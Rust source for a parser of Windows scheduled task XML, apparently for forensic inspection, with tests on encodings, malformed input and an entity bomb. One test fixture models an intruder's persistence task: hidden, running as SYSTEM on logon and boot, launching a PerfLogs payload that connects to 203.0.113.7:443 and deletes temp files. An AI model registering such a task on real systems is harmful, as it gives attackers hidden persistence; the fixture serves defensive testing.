//! Windows scheduled task definitions (the XML files under `Windows\System32\Tasks`): what a
//! task runs, as whom, on which triggers, and whether it is enabled or hidden.
//!
//! The XML is tokenised by `quick-xml` rather than by hand: it handles comments, CDATA,
//! processing instructions, DOCTYPEs and character references correctly, reads without
//! recursion (so deep nesting cannot exhaust the stack) and never expands custom entities
//! (so entity bombs stay inert). Element names are matched on their local part, so the task
//! schema namespace, or any prefix bound to it, does not matter.

use quick_xml::escape::resolve_predefined_entity;
use quick_xml::events::Event;
use quick_xml::reader::Reader;

/// What a scheduled task definition says it runs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Task {
    /// RegistrationInfo/URI: the task's path in the Task Scheduler library.
    pub uri: Option<String>,
    pub author: Option<String>,
    pub description: Option<String>,
    /// Settings/Enabled.
    pub enabled: Option<bool>,
    /// Settings/Hidden.
    pub hidden: Option<bool>,
    /// Principals/Principal/UserId of the first principal.
    pub run_as: Option<String>,
    /// Element names of the triggers (LogonTrigger, BootTrigger, TimeTrigger...).
    pub triggers: Vec<String>,
    /// Every Actions/Exec, in document order.
    pub actions: Vec<ExecAction>,
    /// Actions/ComHandler/ClassId of every COM handler action.
    pub com_handlers: Vec<String>,
}

/// One Actions/Exec: a program started with arguments in a working directory.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ExecAction {
    pub command: String,
    pub arguments: Option<String>,
    pub working_dir: Option<String>,
}

/// Real task definitions nest about six levels deep; anything far deeper is not a task and
/// would only make the element path grow.
const MAX_DEPTH: usize = 64;

/// Parses a task definition. Malformed XML, a root other than `Task` or excessive nesting is
/// an error naming the byte position in the decoded text.
pub fn parse(data: &[u8]) -> Result<Task, String> {
    let text = decode(data);
    let mut reader = Reader::from_str(&text);
    let mut builder = Builder::default();
    let mut path: Vec<String> = Vec::new();
    let mut content = String::new();
    let mut seen_root = false;
    loop {
        let event = reader.read_event().map_err(|e| {
            format!(
                "task XML is malformed at byte {} of the decoded text: {e}",
                reader.error_position()
            )
        })?;
        let at = reader.buffer_position();
        match event {
            Event::Start(start) | Event::Empty(start) if path.is_empty() && seen_root => {
                return Err(format!(
                    "second root element <{}> at byte {at}",
                    start.local_name().as_ref()
                ));
            }
            Event::Start(start) => {
                let name = start.local_name().as_ref().to_string();
                open(&mut path, name, &mut seen_root, at)?;
                builder.opened(&path);
                content.clear();
            }
            Event::Empty(start) => {
                let name = start.local_name().as_ref().to_string();
                open(&mut path, name, &mut seen_root, at)?;
                builder.opened(&path);
                builder.closed(&path, "");
                path.pop();
                content.clear();
            }
            Event::End(_) => {
                builder.closed(&path, content.trim());
                path.pop();
                content.clear();
            }
            Event::Text(text) => content.push_str(&text.xml10_content()),
            Event::CData(data) => content.push_str(&data.xml10_content()),
            Event::GeneralRef(reference) => {
                let character = reference.resolve_char_ref().map_err(|e| {
                    format!(
                        "bad character reference &{}; at byte {at}: {e}",
                        &*reference
                    )
                })?;
                match (character, resolve_predefined_entity(&reference)) {
                    (Some(c), _) => content.push(c),
                    (None, Some(s)) => content.push_str(s),
                    // Only the five predefined entities exist without a DTD, and DTDs are not
                    // expanded: keep the reference as written.
                    (None, None) => {
                        content.push('&');
                        content.push_str(&reference);
                        content.push(';');
                    }
                }
            }
            Event::Eof => break,
            Event::Decl(_) | Event::PI(_) | Event::DocType(_) | Event::Comment(_) => {}
        }
    }
    if let Some(open) = path.last() {
        return Err(format!(
            "task XML ends inside <{open}> ({} elements left open)",
            path.len()
        ));
    }
    if !seen_root {
        return Err("no <Task> element".to_string());
    }
    Ok(builder.task)
}

fn open(path: &mut Vec<String>, name: String, seen_root: &mut bool, at: u64) -> Result<(), String> {
    if path.is_empty() {
        if name != "Task" {
            return Err(format!("root element is <{name}>, not <Task>"));
        }
        *seen_root = true;
    }
    if path.len() >= MAX_DEPTH {
        return Err(format!(
            "elements nest deeper than {MAX_DEPTH} levels at byte {at}"
        ));
    }
    path.push(name);
    Ok(())
}

/// Collects the fields as elements open and close.
#[derive(Default)]
struct Builder {
    task: Task,
    /// The Exec being read; pushed to the actions when it closes with a command.
    exec: Option<ExecAction>,
}

impl Builder {
    fn opened(&mut self, path: &[String]) {
        match names(path).as_slice() {
            ["Task", "Actions", "Exec"] => self.exec = Some(ExecAction::default()),
            ["Task", "Triggers", trigger] => self.task.triggers.push(trigger.to_string()),
            _ => {}
        }
    }

    fn closed(&mut self, path: &[String], text: &str) {
        let value = || Some(text.to_string()).filter(|t| !t.is_empty());
        let task = &mut self.task;
        match names(path).as_slice() {
            ["Task", "RegistrationInfo", "URI"] => task.uri = value(),
            ["Task", "RegistrationInfo", "Author"] => task.author = value(),
            ["Task", "RegistrationInfo", "Description"] => task.description = value(),
            ["Task", "Settings", "Enabled"] => task.enabled = boolean(text),
            ["Task", "Settings", "Hidden"] => task.hidden = boolean(text),
            ["Task", "Principals", "Principal", "UserId"] if task.run_as.is_none() => {
                task.run_as = value();
            }
            ["Task", "Actions", "ComHandler", "ClassId"] => task.com_handlers.extend(value()),
            ["Task", "Actions", "Exec"] => {
                // An Exec without a Command starts nothing (the schema requires one).
                if let Some(exec) = self.exec.take().filter(|e| !e.command.is_empty()) {
                    task.actions.push(exec);
                }
            }
            ["Task", "Actions", "Exec", field] => {
                if let Some(exec) = self.exec.as_mut() {
                    match *field {
                        "Command" => exec.command = text.to_string(),
                        "Arguments" => exec.arguments = value(),
                        "WorkingDirectory" => exec.working_dir = value(),
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }
}

fn names(path: &[String]) -> Vec<&str> {
    path.iter().map(String::as_str).collect()
}

/// xs:boolean: `true`/`1` and `false`/`0`; anything else is no value.
fn boolean(text: &str) -> Option<bool> {
    match text {
        "true" | "1" => Some(true),
        "false" | "0" => Some(false),
        _ => None,
    }
}

/// Text of the file. Windows writes task files as UTF-16LE with a BOM; a BOM-less file shows
/// UTF-16 by the zero byte beside its first character (`<` or whitespace, never NUL). Invalid
/// sequences become U+FFFD rather than failing, so a damaged file still yields what it can.
fn decode(data: &[u8]) -> String {
    if let Some(rest) = data.strip_prefix(&[0xFF, 0xFE]) {
        utf16(rest, u16::from_le_bytes)
    } else if let Some(rest) = data.strip_prefix(&[0xFE, 0xFF]) {
        utf16(rest, u16::from_be_bytes)
    } else if let Some(rest) = data.strip_prefix(&[0xEF, 0xBB, 0xBF]) {
        String::from_utf8_lossy(rest).into_owned()
    } else {
        match data {
            [first, 0, ..] if *first != 0 => utf16(data, u16::from_le_bytes),
            [0, second, ..] if *second != 0 => utf16(data, u16::from_be_bytes),
            _ => String::from_utf8_lossy(data).into_owned(),
        }
    }
}

fn utf16(bytes: &[u8], unit: fn([u8; 2]) -> u16) -> String {
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .filter_map(|pair| pair.try_into().ok())
        .map(unit)
        .collect();
    String::from_utf16_lossy(&units)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_rng::Rng;

    /// A maintenance task in the Task Scheduler schema, shaped like the built-in defrag task.
    const DEFRAG: &str = r#"<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.6" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Source>$(@%systemroot%\system32\dfrgui.exe,-103)</Source>
    <Author>$(@%systemroot%\system32\dfrgui.exe,-102)</Author>
    <Version>1.0</Version>
    <Description>$(@%systemroot%\system32\dfrgui.exe,-104)</Description>
    <URI>\Microsoft\Windows\Defrag\ScheduledDefrag</URI>
  </RegistrationInfo>
  <Principals>
    <Principal id="LocalSystem">
      <UserId>S-1-5-18</UserId>
    </Principal>
  </Principals>
  <Settings>
    <DisallowStartIfOnBatteries>true</DisallowStartIfOnBatteries>
    <StopIfGoingOnBatteries>true</StopIfGoingOnBatteries>
    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>
    <IdleSettings>
      <StopOnIdleEnd>true</StopOnIdleEnd>
      <RestartOnIdle>false</RestartOnIdle>
    </IdleSettings>
    <Enabled>true</Enabled>
    <Hidden>false</Hidden>
    <MaintenanceSettings>
      <Period>P7D</Period>
      <Deadline>P1M</Deadline>
      <Exclusive>true</Exclusive>
    </MaintenanceSettings>
    <Priority>5</Priority>
  </Settings>
  <Triggers />
  <Actions Context="LocalSystem">
    <Exec>
      <Command>%windir%\system32\defrag.exe</Command>
      <Arguments>-c -h -o -$</Arguments>
    </Exec>
  </Actions>
</Task>
"#;

    /// A persistence task as an intruder might register it: hidden, SYSTEM, logon and boot
    /// triggers, a payload in PerfLogs. Prefixed namespace, entities, CDATA and comments.
    const IMPLANT: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<!-- registered by schtasks /create /xml -->
<t:Task version="1.2" xmlns:t="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <t:RegistrationInfo>
    <t:Date>2024-03-01T10:00:00</t:Date>
    <t:Author>WORKGROUP\admin</t:Author>
    <t:URI>\Microsoft\Windows\PerfLog\LogCollector</t:URI>
  </t:RegistrationInfo>
  <t:Triggers>
    <t:LogonTrigger><t:Enabled>false</t:Enabled></t:LogonTrigger>
    <t:BootTrigger><t:Delay>PT1M</t:Delay></t:BootTrigger>
    <t:TimeTrigger>
      <t:Repetition><t:Interval>PT15M</t:Interval></t:Repetition>
      <t:StartBoundary>2024-03-01T10:00:00</t:StartBoundary>
    </t:TimeTrigger>
    <t:CalendarTrigger>
      <t:StartBoundary>2024-03-01T03:00:00</t:StartBoundary>
      <t:ScheduleByDay><t:DaysInterval>1</t:DaysInterval></t:ScheduleByDay>
    </t:CalendarTrigger>
  </t:Triggers>
  <t:Principals>
    <t:Principal id="Author">
      <t:UserId>S-1-5-18</t:UserId>
      <t:RunLevel>HighestAvailable</t:RunLevel>
    </t:Principal>
    <t:Principal id="Second"><t:UserId>S-1-5-19</t:UserId></t:Principal>
  </t:Principals>
  <t:Settings>
    <t:Enabled>true</t:Enabled>
    <t:Hidden>1</t:Hidden>
  </t:Settings>
  <t:Actions Context="Author">
    <t:Exec>
      <t:Command>C:\PerfLogs\log.bin</t:Command>
      <t:Arguments>-connect 203.0.113.7:443 -key &quot;a&amp;b&quot; &#x2D;q&#32;<![CDATA[<raw>]]> &unknown;</t:Arguments>
      <t:WorkingDirectory>C:\PerfLogs</t:WorkingDirectory>
    </t:Exec>
    <t:Exec>
      <!-- a second action -->
      <t:Command>cmd.exe</t:Command>
      <t:Arguments>/c del C:\PerfLogs\*.tmp</t:Arguments>
    </t:Exec>
    <t:Exec><t:Arguments>no command: not an action</t:Arguments></t:Exec>
    <t:ComHandler>
      <t:ClassId>{0358B920-0AC7-461F-98F4-58E32CD89148}</t:ClassId>
      <t:Data><![CDATA[<x/>]]></t:Data>
    </t:ComHandler>
  </t:Actions>
</t:Task>
"#;

    fn utf16le(text: &str, bom: bool) -> Vec<u8> {
        let bom = if bom { vec![0xFF, 0xFE] } else { Vec::new() };
        bom.into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_le_bytes))
            .collect()
    }

    fn utf16be_bom(text: &str) -> Vec<u8> {
        [0xFE, 0xFF]
            .into_iter()
            .chain(text.encode_utf16().flat_map(u16::to_be_bytes))
            .collect()
    }

    fn utf8_bom(text: &str) -> Vec<u8> {
        [0xEF, 0xBB, 0xBF].into_iter().chain(text.bytes()).collect()
    }

    fn defrag_task() -> Task {
        Task {
            uri: Some(r"\Microsoft\Windows\Defrag\ScheduledDefrag".into()),
            author: Some(r"$(@%systemroot%\system32\dfrgui.exe,-102)".into()),
            description: Some(r"$(@%systemroot%\system32\dfrgui.exe,-104)".into()),
            enabled: Some(true),
            hidden: Some(false),
            run_as: Some("S-1-5-18".into()),
            triggers: Vec::new(),
            actions: vec![ExecAction {
                command: r"%windir%\system32\defrag.exe".into(),
                arguments: Some("-c -h -o -$".into()),
                working_dir: None,
            }],
            com_handlers: Vec::new(),
        }
    }

    #[test]
    fn defrag_task_in_utf16le_with_bom() {
        assert_eq!(parse(&utf16le(DEFRAG, true)), Ok(defrag_task()));
    }

    #[test]
    fn every_encoding_gives_the_same_task() {
        let utf8 = DEFRAG.replace("UTF-16", "UTF-8");
        for data in [
            utf16le(DEFRAG, false),
            utf16be_bom(DEFRAG),
            utf8.clone().into_bytes(),
            utf8_bom(&utf8),
        ] {
            assert_eq!(parse(&data), Ok(defrag_task()));
        }
    }

    #[test]
    fn implant_task_with_prefixed_namespace_and_entities() {
        let task = parse(IMPLANT.as_bytes()).expect("parse");
        assert_eq!(
            task,
            Task {
                uri: Some(r"\Microsoft\Windows\PerfLog\LogCollector".into()),
                author: Some(r"WORKGROUP\admin".into()),
                description: None,
                enabled: Some(true),
                hidden: Some(true),
                run_as: Some("S-1-5-18".into()),
                triggers: [
                    "LogonTrigger",
                    "BootTrigger",
                    "TimeTrigger",
                    "CalendarTrigger"
                ]
                .map(String::from)
                .to_vec(),
                actions: vec![
                    ExecAction {
                        command: r"C:\PerfLogs\log.bin".into(),
                        arguments: Some(
                            r#"-connect 203.0.113.7:443 -key "a&b" -q <raw> &unknown;"#.into()
                        ),
                        working_dir: Some(r"C:\PerfLogs".into()),
                    },
                    ExecAction {
                        command: "cmd.exe".into(),
                        arguments: Some(r"/c del C:\PerfLogs\*.tmp".into()),
                        working_dir: None,
                    },
                ],
                com_handlers: vec!["{0358B920-0AC7-461F-98F4-58E32CD89148}".into()],
            }
        );
        assert_eq!(parse(&utf16le(IMPLANT, true)), Ok(task));
    }

    #[test]
    fn what_is_not_a_task_is_an_error() {
        for (what, text) in [
            ("empty", ""),
            ("whitespace", "  \n"),
            ("other root", "<html><body/></html>"),
            ("second root", "<Task></Task><Task></Task>"),
            ("mismatched end", "<Task><Actions></Exec></Task>"),
            ("unclosed", "<Task><Actions>"),
            (
                "bad char ref",
                "<Task><Actions><Exec><Command>&#xD800;</Command>",
            ),
            ("not XML", "MZ\u{90}\0\u{3}"),
        ] {
            let result = parse(text.as_bytes());
            assert!(result.is_err(), "{what}: {result:?}");
        }
        let error = parse(b"<Task><Actions></Exec></Task>").expect_err("mismatch");
        assert!(error.contains("byte"), "{error}");
    }

    #[test]
    fn every_truncation_is_an_error_until_the_root_closes() {
        // (text, its encoding, bytes per character, BOM length)
        for (text, data, width, bom) in [
            (IMPLANT, IMPLANT.as_bytes().to_vec(), 1, 0),
            (DEFRAG, utf16le(DEFRAG, true), 2, 2),
        ] {
            let root_closed = bom + (text.rfind('>').expect("root end") + 1) * width;
            for len in 0..data.len() {
                let result = parse(&data[..len]);
                if len < root_closed {
                    assert!(result.is_err(), "cut at {len}: {result:?}");
                } else if (len - bom) % width == 0 {
                    assert!(result.is_ok(), "cut at {len}: {result:?}");
                }
            }
        }
    }

    #[test]
    fn garbage_and_mutations_never_panic() {
        let mut rng = Rng(7);
        for _ in 0..2000 {
            let len = rng.below(400);
            let data: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
            let _ = parse(&data);
        }
        let seeds = [IMPLANT.as_bytes().to_vec(), utf16le(DEFRAG, true)];
        for iteration in 0..3000 {
            let mut data = seeds[iteration % 2].clone();
            for _ in 0..=rng.below(6) {
                let at = rng.below(data.len());
                data[at] = b"<>&;/\"'!?[]\0"[rng.below(12)];
            }
            let _ = parse(&data);
        }
    }

    #[test]
    fn deep_nesting_is_an_error() {
        let depth = 200_000;
        let text = format!(
            "<Task>{}{}</Task>",
            "<a>".repeat(depth),
            "</a>".repeat(depth)
        );
        let error = parse(text.as_bytes()).expect_err("too deep");
        assert!(error.contains("nest"), "{error}");
        // Within the limit, unknown elements are ignored.
        let text = format!("<Task>{}{}</Task>", "<a>".repeat(50), "</a>".repeat(50));
        assert_eq!(parse(text.as_bytes()), Ok(Task::default()));
    }

    #[test]
    fn huge_tasks_parse_in_linear_time() {
        let actions = 100_000;
        let exec = r"<Exec><Command>C:\x\y.exe</Command><Arguments>-a</Arguments></Exec>";
        let text = format!("<Task><Actions>{}</Actions></Task>", exec.repeat(actions));
        let task = parse(&utf16le(&text, true)).expect("parse");
        assert_eq!(task.actions.len(), actions);

        let description = "x".repeat(8 << 20);
        let text = format!(
            "<Task><RegistrationInfo><Description>{description}</Description>\
             </RegistrationInfo></Task>"
        );
        let task = parse(text.as_bytes()).expect("parse");
        assert_eq!(task.description.map(|d| d.len()), Some(8 << 20));
    }

    #[test]
    fn dtd_entities_are_never_expanded() {
        let text = r#"<?xml version="1.0"?>
<!DOCTYPE Task [
  <!ENTITY a "aaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
]>
<Task><Actions><Exec><Command>&c;</Command></Exec></Actions></Task>"#;
        let task = parse(text.as_bytes()).expect("parse");
        assert_eq!(task.actions[0].command, "&c;");
    }
}
